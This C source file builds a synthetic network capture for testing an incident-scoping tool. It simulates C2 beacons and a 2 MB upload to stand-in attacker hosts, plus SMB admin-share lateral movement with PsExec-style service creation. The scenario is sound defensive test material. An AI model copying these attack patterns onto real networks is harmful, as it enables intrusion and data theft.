/* scn-incident.c - an infection with a known path, for `mamori scope`
 * (tests/cli/scope-test.sh checks the devices and edges it must find).
 *
 * LAN 192.168.30.0/24: router/DNS .1, FILESRV .10, APPSRV .11, DBSRV .12,
 * printer .30, PC01-PC04 .101-.104 (DHCP, so they have names).
 *
 *   00:10-01:00  normal: PC01 and PC02 map \\FILESRV\share, PC02 prints,
 *                PC01-PC03 browse www.example.com.
 *   02:00        PC01 (patient zero) resolves sync.malupdate.example
 *                (198.51.100.77), TLS with that SNI, then HTTP beacons.
 *   02:05        PC04 only resolves api.malupdate.example (no connection).
 *   02:20        PC01 -> FILESRV: ADMIN$ + upd.exe (a path PC01 had used).
 *   02:22        PC01 -> APPSRV: C$ + upd.exe (a new path).
 *   02:30        PC01 -> 203.0.113.200 (files.exfil-drop.example): 2 MB up,
 *                a destination nobody had reached before.
 *   02:40        APPSRV -> DBSRV: ADMIN$ + svc.exe, RPC svcctl (hop 2).
 *   03:10        DBSRV -> PC02: C$ + upd.exe (hop 3: only with --hops 3).
 *   03:00-04:00  normal again: PC02 file share and printing, PC03 browsing.
 * PC03 is never involved.
 */
#include <stdio.h>
#include <string.h>

#include "scenario/scenario.h"
#include "scenario/scn-build.h"
#include "util/util.h"

static const uint8_t oui_dell[3] = {0xf8, 0xbc, 0x12};
static const uint8_t oui_hp[3] = {0x3c, 0xd9, 0x2b};
static const uint8_t oui_brother[3] = {0x3c, 0x2a, 0xf4};
static const uint8_t oui_yamaha[3] = {0x00, 0xa0, 0xde};

#define LAN(x) SCN_IP4(192, 168, 30, (x))
#define HOUR (3600ull * SCN_SEC)

struct inet {
    struct scn_host *gw, *fs, *app, *db, *prn;
    struct scn_host *pc[4];
    struct scn_host *web, *c2, *drop;
};

/* ---- a minimal SMB2 dialogue (as in scn-lateral.c): negotiate, tree
 * connect, create + write: what the parser records as facts ---- */

struct ismb {
    struct scn_tcp c;
    uint64_t mid;
    uint32_t tree;
};

static void ismb_send(struct scn *s, struct ismb *m, int dir, uint16_t cmd,
                      const struct scn_buf *body)
{
    struct scn_buf b;
    scn_buf_init(&b);
    scn_buf_u8(&b, 0);
    scn_buf_u24(&b, (uint32_t)(64 + body->len));
    scn_buf_mem(&b, "\xfeSMB", 4);
    scn_buf_le16(&b, 64);
    scn_buf_le16(&b, 1);
    scn_buf_le32(&b, 0);
    scn_buf_le16(&b, cmd);
    scn_buf_le16(&b, 1);
    scn_buf_le32(&b, dir ? 1 : 0);
    scn_buf_le32(&b, 0);
    scn_buf_le64(&b, m->mid);
    scn_buf_le32(&b, 0);
    scn_buf_le32(&b, m->tree);
    scn_buf_le64(&b, 0x0000400000000011ull);
    scn_buf_zero(&b, 16);
    scn_buf_mem(&b, body->p, body->len);
    scn_tcp_send(s, &m->c, dir, b.p, b.len);
    scn_buf_free(&b);
}

static void ismb_open(struct scn *s, struct ismb *m, struct scn_host *cli, struct scn_host *srv,
                      uint64_t t0)
{
    struct scn_buf b;
    memset(m, 0, sizeof(*m));
    scn_buf_init(&b);
    scn_tcp_open(s, &m->c, cli, srv, 0, 445, false, t0, scn_rng_range(&s->rng, 150, 600));
    scn_buf_le16(&b, 36);
    scn_buf_le16(&b, 2);
    scn_buf_le16(&b, 1);
    scn_buf_le16(&b, 0);
    scn_buf_le32(&b, 0x7f);
    scn_buf_rand(&b, &s->rng, 16);
    scn_buf_le64(&b, 0);
    scn_buf_le16(&b, 0x0210);
    scn_buf_le16(&b, 0x0302);
    ismb_send(s, m, 0, 0, &b);
    scn_buf_clear(&b);
    scn_buf_le16(&b, 65);
    scn_buf_le16(&b, 1);
    scn_buf_le16(&b, 0x0302);
    scn_buf_le16(&b, 0);
    scn_buf_rand(&b, &s->rng, 16);
    scn_buf_le32(&b, 0x2f);
    scn_buf_le32(&b, 8388608);
    scn_buf_le32(&b, 8388608);
    scn_buf_le32(&b, 8388608);
    scn_buf_zero(&b, 16);
    scn_buf_le16(&b, 0);
    scn_buf_le16(&b, 0);
    scn_buf_le32(&b, 0);
    ismb_send(s, m, 1, 0, &b);
    m->mid++;
    scn_buf_free(&b);
}

static void ismb_tree(struct scn *s, struct ismb *m, const char *path, uint32_t tree)
{
    struct scn_buf b;
    scn_buf_init(&b);
    scn_buf_le16(&b, 9);
    scn_buf_le16(&b, 0);
    scn_buf_le16(&b, 64 + 8);
    scn_buf_le16(&b, (uint16_t)(2 * strlen(path)));
    scn_buf_utf16(&b, path);
    m->tree = 0;
    ismb_send(s, m, 0, 3, &b);
    m->tree = tree;
    scn_buf_clear(&b);
    scn_buf_le16(&b, 16);
    scn_buf_u8(&b, strstr(path, "IPC$") ? 2 : 1);
    scn_buf_u8(&b, 0);
    scn_buf_le32(&b, 0);
    scn_buf_le32(&b, 0);
    scn_buf_le32(&b, 0x001f01ff);
    ismb_send(s, m, 1, 3, &b);
    m->mid++;
    scn_buf_free(&b);
}

/* CREATE name (write access, overwrite-if) and one WRITE of len bytes;
 * len 0: open for reading. */
static void ismb_create(struct scn *s, struct ismb *m, const char *name, size_t len)
{
    struct scn_buf b;
    scn_buf_init(&b);
    scn_buf_le16(&b, 57);
    scn_buf_u8(&b, 0);
    scn_buf_u8(&b, 0);
    scn_buf_le32(&b, 2);
    scn_buf_le64(&b, 0);
    scn_buf_le64(&b, 0);
    scn_buf_le32(&b, len ? 0x40000000u : 0x00120089u);
    scn_buf_le32(&b, 0x80);
    scn_buf_le32(&b, 7);
    scn_buf_le32(&b, len ? 5 : 1);
    scn_buf_le32(&b, 0x40);
    scn_buf_le16(&b, 64 + 56);
    scn_buf_le16(&b, (uint16_t)(2 * strlen(name)));
    scn_buf_le32(&b, 0);
    scn_buf_le32(&b, 0);
    scn_buf_utf16(&b, name);
    ismb_send(s, m, 0, 5, &b);
    scn_buf_clear(&b);
    scn_buf_le16(&b, 89);
    scn_buf_u8(&b, 0);
    scn_buf_u8(&b, 0);
    scn_buf_le32(&b, len ? 2 : 1);
    scn_buf_zero(&b, 48);
    scn_buf_le32(&b, 0x20);
    scn_buf_le32(&b, 0);
    scn_buf_rand(&b, &s->rng, 16);
    scn_buf_le32(&b, 0);
    scn_buf_le32(&b, 0);
    ismb_send(s, m, 1, 5, &b);
    m->mid++;
    if (len) {
        scn_buf_clear(&b);
        scn_buf_le16(&b, 49);
        scn_buf_le16(&b, 64 + 48);
        scn_buf_le32(&b, (uint32_t)len);
        scn_buf_le64(&b, 0);
        scn_buf_zero(&b, 16 + 4 + 4 + 4 + 4);
        scn_buf_rand(&b, &s->rng, len);
        ismb_send(s, m, 0, 9, &b);
        scn_buf_clear(&b);
        scn_buf_le16(&b, 17);
        scn_buf_zero(&b, 14);
        ismb_send(s, m, 1, 9, &b);
        m->mid++;
    } else { /* a read of the file's first 64 KiB */
        scn_buf_clear(&b);
        scn_buf_le16(&b, 49);
        scn_buf_zero(&b, 47);
        ismb_send(s, m, 0, 8, &b);
        scn_buf_clear(&b);
        scn_buf_le16(&b, 17);
        scn_buf_u8(&b, 0x50);
        scn_buf_u8(&b, 0);
        scn_buf_le32(&b, 65536);
        scn_buf_zero(&b, 8);
        scn_buf_rand(&b, &s->rng, 65536);
        ismb_send(s, m, 1, 8, &b);
        m->mid++;
    }
    scn_buf_free(&b);
}

/* One SMB session: tree connect to share, then create (write len) or read. */
static void smb_visit(struct scn *s, struct scn_host *cli, struct scn_host *srv, uint64_t t0,
                      const char *share, const char *file, size_t len)
{
    struct ismb m;
    ismb_open(s, &m, cli, srv, t0);
    ismb_tree(s, &m, share, 1);
    ismb_create(s, &m, file, len);
    scn_tcp_close(s, &m.c, 0);
}

/* A DCE/RPC bind of svcctl on 135 and its ack (PsExec-style service
 * creation). */
static void rpc_svcctl(struct scn *s, struct scn_host *cli, struct scn_host *srv, uint64_t t0)
{
    static const uint8_t svcctl[16] = {0x81, 0xbb, 0x7a, 0x36, 0x44, 0x98, 0xf1, 0x35,
                                       0xad, 0x32, 0x98, 0xf0, 0x38, 0x00, 0x10, 0x03};
    static const uint8_t ndr[16] = {0x04, 0x5d, 0x88, 0x8a, 0xeb, 0x1c, 0xc9, 0x11,
                                    0x9f, 0xe8, 0x08, 0x00, 0x2b, 0x10, 0x48, 0x60};
    struct scn_tcp c;
    struct scn_buf b;
    scn_buf_init(&b);
    scn_tcp_open(s, &c, cli, srv, 0, 135, false, t0, scn_rng_range(&s->rng, 150, 600));
    scn_buf_mem(&b, "\x05\x00\x0b\x03\x10\x00\x00\x00", 8);
    scn_buf_le16(&b, 72);
    scn_buf_le16(&b, 0);
    scn_buf_le32(&b, 2);
    scn_buf_le16(&b, 4280);
    scn_buf_le16(&b, 4280);
    scn_buf_le32(&b, 0);
    scn_buf_u8(&b, 1);
    scn_buf_zero(&b, 3);
    scn_buf_le16(&b, 0);
    scn_buf_u8(&b, 1);
    scn_buf_u8(&b, 0);
    scn_buf_mem(&b, svcctl, 16);
    scn_buf_le16(&b, 2);
    scn_buf_le16(&b, 0);
    scn_buf_mem(&b, ndr, 16);
    scn_buf_le32(&b, 2);
    scn_tcp_send(s, &c, 0, b.p, b.len);
    scn_buf_clear(&b);
    scn_buf_mem(&b, "\x05\x00\x0c\x03\x10\x00\x00\x00", 8);
    scn_buf_le16(&b, 68);
    scn_buf_le16(&b, 0);
    scn_buf_le32(&b, 2);
    scn_buf_le16(&b, 4280);
    scn_buf_le16(&b, 4280);
    scn_buf_le32(&b, 0x1234);
    scn_buf_le16(&b, 6);
    scn_buf_mem(&b, "49670\0", 6);
    scn_buf_u8(&b, 1);
    scn_buf_zero(&b, 3);
    scn_buf_le16(&b, 0);
    scn_buf_le16(&b, 0);
    scn_buf_mem(&b, ndr, 16);
    scn_buf_le32(&b, 2);
    scn_tcp_send(s, &c, 1, b.p, b.len);
    scn_tcp_send_rand(s, &c, 0, 300);
    scn_tcp_send_rand(s, &c, 1, 200);
    scn_tcp_close(s, &c, 0);
    scn_buf_free(&b);
}

/* ---- the network ---- */

static void inet_init(struct scn *s, struct inet *n)
{
    n->gw = scn_host_new(s, "RTX830", SCN_OS_ROUTER, oui_yamaha, LAN(1));
    n->fs = scn_host_new(s, "FILESRV", SCN_OS_WINDOWS, oui_hp, LAN(10));
    n->app = scn_host_new(s, "APPSRV", SCN_OS_WINDOWS, oui_hp, LAN(11));
    n->db = scn_host_new(s, "DBSRV", SCN_OS_WINDOWS, oui_hp, LAN(12));
    n->prn = scn_host_new(s, "BRN-MFC", SCN_OS_PRINTER, oui_brother, LAN(30));
    for (int i = 0; i < 4; i++) {
        char name[16];
        snprintf(name, sizeof(name), "PC%02d", i + 1);
        n->pc[i] = scn_host_new(s, name, SCN_OS_WINDOWS, oui_dell, 0);
    }
    n->web = scn_host_remote(s, n->gw, SCN_OS_LINUX, SCN_IP4(93, 184, 216, 34), NULL);
    n->c2 = scn_host_remote(s, n->gw, SCN_OS_LINUX, SCN_IP4(198, 51, 100, 77), NULL);
    n->drop = scn_host_remote(s, n->gw, SCN_OS_LINUX, SCN_IP4(203, 0, 113, 200), NULL);
}

static void lookup(struct scn *s, uint64_t *t, struct inet *n, struct scn_host *cli,
                   const char *name, uint32_t addr)
{
    struct scn_dns_rr an = {.name = NULL, .type = SCN_DNS_A, .ttl = 300, .a = addr};
    scn_dns_lookup(s, t, cli, n->gw, name, SCN_DNS_A, &an, 1, 0, 20 * SCN_MS);
}

static void browse(struct scn *s, struct inet *n, struct scn_host *pc, uint64_t t)
{
    lookup(s, &t, n, pc, "www.example.com", n->web->ip4);
    scn_https_visit(s, pc, n->web, "www.example.com", SCN_TLS_CHROME, true, t + 2 * SCN_MS,
                    30 * SCN_MS, 2, 800, 30000);
}

static void print_job(struct scn *s, struct inet *n, struct scn_host *pc, uint64_t t)
{
    struct scn_tcp c;
    scn_tcp_open(s, &c, pc, n->prn, 0, 9100, false, t, 400);
    scn_tcp_send_rand(s, &c, 0, 20000);
    scn_tcp_close(s, &c, 0);
}

static void beacon(struct scn *s, struct inet *n, struct scn_host *pc, uint64_t t)
{
    struct scn_tcp c;
    scn_tcp_open(s, &c, pc, n->c2, 0, 80, false, t, 80 * SCN_MS);
    scn_http_exchange(s, &c, "POST", "sync.malupdate.example", "/gate.php?id=7f3a",
                      "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)",
                      "application/octet-stream", "k=01a9c3", 200, "text/html", 120);
    scn_tcp_close(s, &c, 0);
}

static void gen_incident(struct scn *s, const struct scenario_opts *o)
{
    (void)o;
    struct inet n;
    inet_init(s, &n);
    uint64_t day = SCN_EPOCH_US;
    /* servers and the printer announce their names; the PCs join by DHCP */
    scn_nbns_register(s, day + 1 * SCN_SEC, n.fs, "KOMORI");
    scn_nbns_register(s, day + 2 * SCN_SEC, n.app, "KOMORI");
    scn_nbns_register(s, day + 3 * SCN_SEC, n.db, "KOMORI");
    scn_arp_announce(s, day + 4 * SCN_SEC, n.prn);
    for (int i = 0; i < 4; i++) {
        uint64_t t = day + 10 * SCN_SEC + (uint64_t)i * 20 * SCN_SEC;
        scn_dhcp_join(s, &t, n.pc[i], n.gw, LAN(101 + i), "komori.local");
    }
    /* normal work before the infection */
    uint64_t t = day + 10 * SCN_MIN;
    smb_visit(s, n.pc[0], n.fs, t, "\\\\FILESRV\\share", "Mitsumori\\2026-11.xlsx", 0);
    smb_visit(s, n.pc[1], n.fs, t + 2 * SCN_MIN, "\\\\FILESRV\\share", "Uriage\\2026-11.xlsx", 0);
    print_job(s, &n, n.pc[1], t + 5 * SCN_MIN);
    for (int i = 0; i < 3; i++)
        browse(s, &n, n.pc[i], t + (uint64_t)(10 + 7 * i) * SCN_MIN);

    /* 02:00 the infection: DNS, TLS and HTTP beacons to the C2 */
    t = day + 2 * HOUR;
    lookup(s, &t, &n, n.pc[0], "sync.malupdate.example", n.c2->ip4);
    scn_https_visit(s, n.pc[0], n.c2, "sync.malupdate.example", SCN_TLS_OLD, false,
                    t + 5 * SCN_MS, 80 * SCN_MS, 1, 600, 40000);
    for (int i = 0; i < 3; i++)
        beacon(s, &n, n.pc[0], t + (uint64_t)(1 + 3 * i) * SCN_MIN);
    uint64_t t4 = day + 2 * HOUR + 5 * SCN_MIN;
    lookup(s, &t4, &n, n.pc[3], "api.malupdate.example", n.c2->ip4);

    /* 02:20 spread from PC01: FILESRV (known path, admin share), APPSRV (new) */
    smb_visit(s, n.pc[0], n.fs, day + 2 * HOUR + 20 * SCN_MIN, "\\\\FILESRV\\ADMIN$",
              "Temp\\upd.exe", 40000);
    smb_visit(s, n.pc[0], n.app, day + 2 * HOUR + 22 * SCN_MIN, "\\\\APPSRV\\C$",
              "Windows\\Temp\\upd.exe", 40000);
    /* 02:30 a second stage outside: an upload nobody had made before */
    uint64_t t5 = day + 2 * HOUR + 30 * SCN_MIN;
    lookup(s, &t5, &n, n.pc[0], "files.exfil-drop.example", n.drop->ip4);
    scn_https_visit(s, n.pc[0], n.drop, "files.exfil-drop.example", SCN_TLS_OLD, false,
                    t5 + 5 * SCN_MS, 120 * SCN_MS, 4, 500000, 2000);
    /* 02:40 hop 2: APPSRV to DBSRV, admin share and remote service */
    smb_visit(s, n.app, n.db, day + 2 * HOUR + 40 * SCN_MIN, "\\\\DBSRV\\ADMIN$", "svc.exe",
              40000);
    rpc_svcctl(s, n.app, n.db, day + 2 * HOUR + 41 * SCN_MIN);
    /* 03:10 hop 3: DBSRV to PC02 */
    smb_visit(s, n.db, n.pc[1], day + 3 * HOUR + 10 * SCN_MIN, "\\\\PC02\\C$",
              "Windows\\Temp\\upd.exe", 40000);

    /* normal work after it: PC02's share and printing, PC03 and PC01 browsing */
    t = day + 3 * HOUR;
    smb_visit(s, n.pc[1], n.fs, t, "\\\\FILESRV\\share", "Uriage\\2026-12.xlsx", 0);
    print_job(s, &n, n.pc[1], t + 3 * SCN_MIN);
    browse(s, &n, n.pc[2], t + 20 * SCN_MIN);
    browse(s, &n, n.pc[0], t + 30 * SCN_MIN);
}

const struct scenario scn_table_incident[] = {
    {"incident-spread",
     "patient zero beacons to a C2, drops files on two servers over SMB, one spreads on",
     gen_incident},
    {.name = NULL},
};
